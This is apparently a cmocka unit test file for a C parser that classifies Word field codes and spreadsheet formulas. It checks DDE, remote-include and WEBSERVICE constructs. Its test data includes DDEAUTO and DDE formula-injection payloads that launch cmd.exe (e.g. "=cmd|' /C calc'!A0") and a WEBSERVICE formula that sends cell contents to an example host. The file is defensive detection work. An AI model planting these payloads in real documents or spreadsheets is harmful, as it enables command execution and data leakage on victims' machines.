#include "document/fieldcode.h"

#include "base/exact.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

static void codes_are_known_by_their_first_word(void **state)
{
	static const struct {
		str in;
		enum fieldcode_kind kind;
		str target;
	} cases[] = {
		{ STR(" DDEAUTO c:\\\\cmd.exe \"/k calc\" "), FIELDCODE_DDE,
		  STR("c:\\\\cmd.exe \"/k calc\"") },
		{ STR("\"dde\" excel sheet"), FIELDCODE_DDE, STR("excel sheet") },
		{ STR("INCLUDEPICTURE \"http://a.example/x y.png\" \\d"), FIELDCODE_PICTURE,
		  STR("http://a.example/x y.png") },
		{ STR("HYPERLINK \\l \"part\""), FIELDCODE_HYPERLINK, STR("part") },
		{ STR("LINK Excel.Sheet.8 http://a.example/b.xls"), FIELDCODE_INCLUDE,
		  STR("http://a.example/b.xls") },
		{ STR("QUOTE 68 68 69 65 32 99"), FIELDCODE_DDE, STR("68 68 69 65 32 99") },
		{ STR("QUOTE \"3 words\" 4"), FIELDCODE_OTHER, STR("") },
		{ STR("PAGE"), FIELDCODE_OTHER, STR("") },
		{ STR("DDEX cmd"), FIELDCODE_OTHER, STR("") },
		{ STR(""), FIELDCODE_OTHER, STR("") },
		{ STR("IMPORT"), FIELDCODE_INCLUDE, STR("") },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		cleanup(exact_freep) str in = exact_copy(cases[i].in);
		struct fieldcode f = fieldcode_read(in);

		assert_int_equal(f.kind, cases[i].kind);
		assert_true(str_eq(f.target, cases[i].target));
	}
}

static void fields_within_fields_are_all_seen(void **state)
{
	str rest = STR("text \x13 IF \x13 DDE a b \x14 1 \x15 x \x15 end"), code;

	(void)state;
	assert_true(fieldcode_next(&rest, &code));
	assert_true(str_eq(code, STR(" IF ")));
	assert_true(fieldcode_next(&rest, &code));
	assert_true(str_eq(code, STR(" DDE a b ")));
	assert_false(fieldcode_next(&rest, &code));
}

static void formulas_that_ask_programs_are_told_from_text(void **state)
{
	static const str yes[] = { STR("=cmd|' /C calc'!A0"), STR("@SUM(1+1)*cmd|' /C calc'!A0"),
				   STR("\"=MSEXCEL|'\\..\\cmd.exe /c calc'!''\""),
				   STR("-2+3+cmd|' /C calc'!D2") };
	static const str no[] = { STR("=A1+B1"),    STR("a|b!c"),	  STR("=|!"),
				  STR("=cmd|calc"), STR("- yes | no! -"), STR("") };

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(yes); i++)
		assert_true(fieldcode_is_dde_formula(yes[i]));
	for (size_t i = 0; i < ARRAY_LEN(no); i++)
		assert_false(fieldcode_is_dde_formula(no[i]));
}

static void functions_that_ask_the_web_are_known(void **state)
{
	static const struct {
		str formula, want;
	} rows[] = {
		{ STR("_xlfn.WEBSERVICE(\"http://e.example/\"&A1)"), STR("WEBSERVICE") },
		{ STR("IF(A1,webservice(B1),0)"), STR("WEBSERVICE") },
		{ STR("of:=COM.MICROSOFT.WEBSERVICE([.A1])"), STR("WEBSERVICE") },
		{ STR("_xlfn.WEBSERVICE"), STR("WEBSERVICE") },
		{ STR("_xlfn.IMAGE(A1)"), STR("IMAGE") },
		{ STR("MYWEBSERVICE(1)+WEBSERVICE_OLD(2)+WEBSERVICE(3)"), STR("WEBSERVICE") },
		{ STR("MYWEBSERVICE(1)"), STR("") },
		{ STR("IMAGE(1)"), STR("") },
		{ STR("SUM(A1:A9)"), STR("") },
		{ STR(""), STR("") },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
		assert_true(str_eq(fieldcode_web_function(rows[i].formula), rows[i].want));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(codes_are_known_by_their_first_word),
		cmocka_unit_test(fields_within_fields_are_all_seen),
		cmocka_unit_test(functions_that_ask_the_web_are_known),
		cmocka_unit_test(formulas_that_ask_programs_are_told_from_text),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
